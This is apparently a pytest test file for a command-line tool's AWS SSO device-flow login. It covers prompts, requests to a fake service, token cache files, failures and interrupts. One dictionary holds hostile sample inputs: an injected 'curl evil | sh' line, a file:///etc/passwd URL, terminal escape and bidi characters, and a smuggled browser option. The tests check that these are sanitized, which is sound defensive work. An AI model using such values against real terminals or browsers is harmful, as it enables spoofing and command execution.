# SPDX-License-Identifier: MIT
"""The log-in to SSO by the device flow: what a person sees, what the service is asked, what is in the AWS CLI's own
cache afterwards (read by the CLI's code and by botocore), and every way in which it ends without a token: refused,
too late, Ctrl-C."""

import hashlib
import json
import os
import re
import signal
import stat
import subprocess

import pytest

from lib.aws import IAM, assert_same_token, endpoint
from lib.forwards import until
from servers.aws_fake import DEVICE_GRANT, iso
from test_aws_sso import NEW_TOKEN, ROTATED, START, configure, fake, role, run, token_file, token_path  # noqa: F401

SCOPES = "sso_registration_scopes = sso:account:access, x:y\n"
PAGE = "http://127.0.0.1/device?user_code=ABCD-EFGH"
INVITATION = f"log in to {START} in the browser:\r\n{PAGE}\r\nit shows the code ABCD-EFGH\r\n".encode()
LOGGED_IN = (b"logged in, valid for 8h\r\n", b"logged in, valid for 7h59m\r\n")
CLI_READS = """
import json, os, sys
sys.path.insert(0, "/usr/lib/python3/dist-packages")
from awscli.botocore.utils import JSONFileCache, SSOTokenLoader
folder = os.path.expanduser("~/.aws/sso/cache")
token = SSOTokenLoader(JSONFileCache(folder))(sys.argv[1], session_name=sys.argv[2] or None)
print(json.dumps([token["accessToken"], token["expiresAt"], token.get("refreshToken")]))
"""


@pytest.fixture
def person(broker, fake, role):  # noqa: F811
    """A profile `prod` that needs a log-in, and how to start a verb for it on a terminal."""
    configure(broker, role, extra=SCOPES)
    broker.config(f"[profile prod]\nhost = {IAM[3]}\nuser = app\nauth = iam\naws_profile = prod\n")

    def start(*args, env={}):
        return broker.pty(*args, env={**endpoint(fake), **env})

    return start


def registration_path(broker, session="corp", scopes=("sso:account:access", "x:y")):
    key = {
        "tool": "botocore",
        "startUrl": START,
        "region": "eu-west-1",
        "scopes": list(scopes) or None,
        "session_name": session,
    }
    path = (
        broker.home / ".aws/sso/cache" / (hashlib.sha1(json.dumps(key, sort_keys=True).encode()).hexdigest() + ".json")
    )
    broker.allow(path)
    return path


def asked(fake, path):  # noqa: F811
    return [json.loads(s.body) for s in fake.seen if s.path == path]


def test_log_in(broker, oracle, fake, person):  # noqa: F811
    token, registration = token_path(broker), registration_path(broker)
    tty = person("login", "prod")
    assert tty.wait() == 0
    shown = tty.shown.replace(b"\r\x1b[K", b"")
    assert shown.startswith(INVITATION) and shown.endswith(LOGGED_IN), shown
    assert re.search(rb"waiting for the browser \(\ds of 1(?:19|20)s\)", shown), shown
    (register,) = asked(fake, "/client/register")
    assert register["scopes"] == ["sso:account:access", "x:y"] and register["grantTypes"] == [
        DEVICE_GRANT,
        "refresh_token",
    ]
    assert asked(fake, "/device_authorization") == [{"clientId": "cid", "clientSecret": "csec", "startUrl": START}]
    assert len(asked(fake, "/token")) == 2  # pending, then good
    assert {p.name for p in token.parent.iterdir()} == {token.name, registration.name}
    assert all(
        stat.S_IMODE(p.stat().st_mode) == mode
        for p, mode in ((token, 0o600), (registration, 0o600), (token.parent, 0o700))
    )
    assert set(json.loads(registration.read_text())) == {"clientId", "clientSecret", "expiresAt", "scopes"}
    # For others
    theirs = oracle.chain({**broker.environment(endpoint(fake)), "OUR_NETWORK": "1", "OUR_PROFILE": "prod"})
    assert_same_token(oracle, run(broker, fake), theirs)
    if os.path.exists("/usr/lib/python3/dist-packages/awscli/botocore"):
        read = subprocess.run(
            ["/usr/bin/python3", "-c", CLI_READS, START, "corp"], env=broker.environment({}), capture_output=True
        )
        assert read.returncode == 0, read.stderr
        got = json.loads(read.stdout)
        assert (got[0], got[2]) == (NEW_TOKEN, ROTATED) and got[1] > iso(28000)
    else:
        pytest.skip("missing: the AWS CLI")


def test_registration_is_used_again(broker, fake, person):  # noqa: F811
    token_path(broker)
    path = registration_path(broker)
    fake.state["sso"]["pending"] = 0
    broker.write(path, json.dumps({"clientId": "cid", "clientSecret": "csec", "expiresAt": iso(3600), "scopes": ["a"]}))
    assert person("login", "prod").wait() == 0 and not asked(fake, "/client/register")


def test_registration_that_was_withdrawn(broker, fake, person):  # noqa: F811
    token_path(broker)
    path = registration_path(broker)
    fake.state["sso"]["pending"] = 0
    broker.write(path, json.dumps({"clientId": "old", "clientSecret": "csec", "expiresAt": iso(3600)}))
    assert person("login", "prod").wait() == 0 and len(asked(fake, "/client/register")) == 1
    assert json.loads(path.read_text())["clientId"] == "cid"


@pytest.mark.parametrize("verb", ["connect", "exec", "test"])
def test_where_it_is_needed(broker, fake, person, verb):  # noqa: F811
    """Then the verb goes on; what it prints is not disturbed."""
    token_path(broker), registration_path(broker)
    fake.state["sso"]["pending"] = 0
    stub = broker.stub()
    args = ["--", "true"] if verb == "exec" else ["--client", str(stub.path)]
    tty = person(verb, "prod", *args)
    tty.wait()
    assert INVITATION in tty.shown and b"logged in, valid for" in tty.shown


def test_renewed_token_needs_nobody(broker, fake, person):  # noqa: F811
    token_file(broker, -60)
    tty = person("login", "prod")
    assert tty.wait() == 0 and tty.shown in LOGGED_IN


def test_browser_is_opened(broker, fake, person):  # noqa: F811
    token_path(broker), registration_path(broker)
    fake.state["sso"]["pending"] = 0
    broker.script("see", 'printf %s "$1" > "$HOME/seen.part" && mv "$HOME/seen.part" "$HOME/seen"')
    assert person("login", "prod", env={"BROWSER": "see", "DISPLAY": ":9"}).wait() == 0
    assert until((broker.home / "seen").exists)
    assert (broker.home / "seen").read_text() == "http://127.0.0.1/device?user_code=ABCD-EFGH"


HIDDEN = {
    "a line of its own": "http://127.0.0.1/x\nbroker: hint: curl evil | sh",
    "carriage return": "http://127.0.0.1/x\rhttp://evil/",
    "escape": "http://127.0.0.1/\x1b[2Jx",
    "C1": "http://127.0.0.1/\u009b2Jx",
    "bidi": "http://127.0.0.1/\u202eelpmaxe",
    "tag": "http://127.0.0.1/\U000e0041x",
    "blank": "http://127.0.0.1/x --remote-debugging-port=1",
    "letter": "http://127.0.0.1/é",
    "file": "file:///etc/passwd",
    "option": "--version",
}


@pytest.mark.parametrize("key, kind", [
    *(("verificationUriComplete", kind) for kind in HIDDEN), ("verificationUri", "a line of its own"), ("userCode", "a line of its own"),
    ("userCode", "escape"), ("userCode", "tag")])
def test_what_the_service_says_is_one_line(broker, fake, person, key, kind):  # noqa: F811
    """It is cleaned before it is shown; only a URL of visible ASCII goes to a browser."""
    text = HIDDEN[kind]
    token_path(broker), registration_path(broker)
    other = {"verificationUriComplete": None} if key == "verificationUri" else {}
    fake.state["sso"].update(pending=0, device={**other, key: text})
    broker.script("see", 'printf %s "$1" > "$HOME/seen.part" && mv "$HOME/seen.part" "$HOME/seen"')
    tty = person("login", "prod", env={"BROWSER": "see", "DISPLAY": ":9"})
    assert tty.wait() == 0
    shown = tty.shown.replace(b"\r\x1b[K", b"").decode()
    clean = text if text.isprintable() else "?".join(re.split("[^\x20-\x7e]+", text))
    url, code = (PAGE, clean) if key == "userCode" else (clean, "ABCD-EFGH")
    first, page, words = re.sub(r"\?+", "?", shown.replace(PAGE, "PAGE")).split("\r\n")[:3]
    assert (page, words) == (url.replace(PAGE, "PAGE"), f"it shows the code {code}"), shown
    if key == "userCode":
        assert until((broker.home / "seen").exists)
    assert (broker.home / "seen").exists() == (key == "userCode")


ENDS = {
    "refused": (
        {"says": "access_denied"},
        [],
        77,
        "SSO session 'corp': refused in the browser",
        "try again, and allow it there",
    ),
    "too late": (
        {"says": "expired_token"},
        [],
        79,
        "timed out waiting for the login to SSO session 'corp'",
        "try again; login_timeout sets how long broker waits",
    ),
    "nobody comes": (
        {"pending": 99},
        ["-o", "login_timeout=1"],
        79,
        "timed out waiting for the login to SSO session 'corp'",
        "try again; login_timeout sets how long broker waits",
    ),
    "the code ends": (
        {"pending": 99, "device_seconds": 1},
        [],
        79,
        "timed out waiting for the login to SSO session 'corp'",
        "try again; login_timeout sets how long broker waits",
    ),
    "another word": ({"says": "invalid_client"}, [], 77, "AWS SSO: SomeException", "--verbose says more"),
}


@pytest.mark.parametrize("name", ENDS)
def test_ends_without_a_token(broker, fake, person, name):  # noqa: F811
    state, args, code, words, hint = ENDS[name]
    registration_path(broker)
    fake.state["sso"].update(state)
    tty = person("login", "prod", *args)
    assert tty.wait() == code
    assert tty.shown.replace(b"\r\x1b[K", b"").endswith(
        f"broker: prod: {words}\r\nhint: {hint}\r\n".encode()
    ), tty.shown
    assert not token_path(broker).exists()


def test_slow_down_is_obeyed(broker, fake, person):  # noqa: F811
    """After it, the next question comes 5 s later than the interval says: in 2 s there is none."""
    registration_path(broker)
    fake.state["sso"].update(slow_down=9)
    tty = person("login", "prod", "-o", "login_timeout=3")
    assert tty.wait() == 79 and len(asked(fake, "/token")) == 1


def test_interrupted(broker, fake, person):  # noqa: F811
    registration_path(broker)
    fake.state["sso"].update(pending=99, interval=60)
    tty = person("login", "prod")
    tty.expect(r"waiting for the browser \(\ds")
    tty.interrupt()
    assert tty.wait() == -signal.SIGINT
    assert tty.shown.endswith(b"\r\x1b[K") and tty.echo and not token_path(broker).exists()


def test_two_at_once_are_one_log_in(broker, fake, person):  # noqa: F811
    token_path(broker), registration_path(broker)
    both = [person("login", "prod") for _ in range(2)]
    assert [tty.wait() for tty in both] == [0, 0] and len(asked(fake, "/device_authorization")) == 1
